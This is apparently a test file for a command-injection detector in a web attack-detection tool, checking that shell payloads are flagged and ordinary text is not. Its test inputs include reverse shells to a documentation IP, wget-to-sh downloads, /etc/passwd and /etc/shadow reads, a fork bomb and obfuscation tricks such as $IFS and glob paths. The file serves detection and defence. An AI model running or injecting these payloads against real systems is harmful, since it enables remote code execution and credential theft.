import assert from 'node:assert/strict'
import { test } from 'node:test'

import type { AttackFinding, Part } from '../../detector.ts'
import { globTarget } from './glob-path.ts'
import { rceDetector } from './index.ts'
import { shellCommands } from './shell-words.ts'

function judge(value: string, place: Part['place'] = 'query', name = 'q'): AttackFinding | undefined {
  return rceDetector.detect(value, { place, name, raw: value, values: [value] })
}

function words(value: string): string[][] {
  return shellCommands(value).map((command) => command.words.map((word) => word.text))
}

test('the lexer splits a value as a shell would', () => {
  assert.deepEqual(words('10.0.0.1; cat /etc/passwd | nc -l 9'), [
    ['10.0.0.1'],
    ['cat', '/etc/passwd'],
    ['nc', '-l', '9'],
  ])
  assert.deepEqual(words("c'a't$IFS$9/etc/pa''sswd"), [['cat', '/etc/passwd']])
  assert.deepEqual(words('{wget,-q,http://x.test/a}'), [['wget', '-q', 'http://x.test/a']])
  assert.deepEqual(words('pi$()ng ``127.1'), [['ping', '127.1']])
  assert.deepEqual(words("x'; id"), [['x'], ['id']])
  assert.deepEqual(words('a$(uname -r)b'), [['a'], ['uname', '-r', 'b']])
  assert.deepEqual(words('Tom &amp; Jerry'), [['Tom', '&amp;', 'Jerry']])
  assert.equal(shellCommands(';'.repeat(9000)).length, 48)
})

test('commands after separators and substitutions are told', () => {
  for (const value of [
    '127.0.0.1;cat /etc/hostname',
    'x|id',
    '`whoami`',
    '$(curl http://198.51.100.9/a)',
    "a'; ping -c 4 198.51.100.9 #",
    'foo && wget -O- http://198.51.100.9/x | sh',
    'name\nls -la',
    ';w\\get http://198.51.100.9',
    ";'n''c' -e /bin/sh 198.51.100.9 4444",
    '& dir c:\\',
    '| net user evil P4ss /add',
    'a=/etc;b=cat;$b $a/passwd',
    ';${IFS}cat${IFS}/etc/passwd',
    ';/???/??t /etc/p?sswd',
  ]) {
    const found = judge(value)
    assert.equal(found?.class, 'rce', value)
    assert.ok(found.confidence >= 60, value)
  }
})

test('command lines, cmdlets and constructs of shells are told', () => {
  for (const value of [
    'cat /etc/shadow',
    'ls -l /home/*',
    'powershell -enc SQBFAFgA',
    'sh -i >& /dev/tcp/198.51.100.9/443 0>&1',
    ':(){ :|:& };:',
    '<!--#exec cmd="ls" -->',
    'for %i in (1 2 3) do echo %i',
    'Get-ChildItem -Path C:\\Users',
    "__x'; os.system('id')",
  ]) {
    assert.equal(judge(value)?.class, 'rce', value)
  }
  const shock = judge('() { :; }; /usr/bin/id', 'user-agent')
  assert.match(shock?.why ?? '', /ShellShock/)
  assert.equal(judge('whoami', 'query', 'cmd')?.class, 'rce')
  assert.equal(judge('id', 'query', 'cmd')?.class, 'rce')
})

test('prose, names and browsers are no commands', () => {
  for (const value of [
    'AT&T',
    'cats & dogs',
    'Q&A: who is it?',
    'find the time to sleep; then wake up',
    'rock|pop|jazz',
    'time warner',
    'kill bill',
    'how to use `tail -f` with two files',
    'id',
    'set of 3 cups; top quality',
    "O'Keefe's cat",
    'price < 10 & size > 4',
    '{"a":1,"b":[2,3]}',
    'Mount Airy; Sort by date',
    'who',
  ]) {
    assert.equal(judge(value), undefined, value)
  }
  for (const agent of [
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'curl/8.5.0',
    'Links (2.3; Linux 6.1 x86_64; 170x48)',
  ]) {
    assert.equal(judge(agent, 'user-agent'), undefined, agent)
  }
  assert.equal(judge('https://example.org/?id=3&set=b&sort=up', 'referer'), undefined)
})

test('patterns stand for the files they match and for nothing else', () => {
  assert.equal(globTarget('/???/p??s??'), '/etc/passwd')
  assert.equal(globTarget('/[e-f]tc/pas[s]wd'), '/etc/passwd')
  assert.equal(globTarget('/usr/b*/w?oami'), '/usr/bin/whoami')
  assert.equal(globTarget('/*/*'), undefined)
  assert.equal(globTarget('/img/*.png'), undefined)
  assert.equal(globTarget('/[unclosed'), undefined)
})
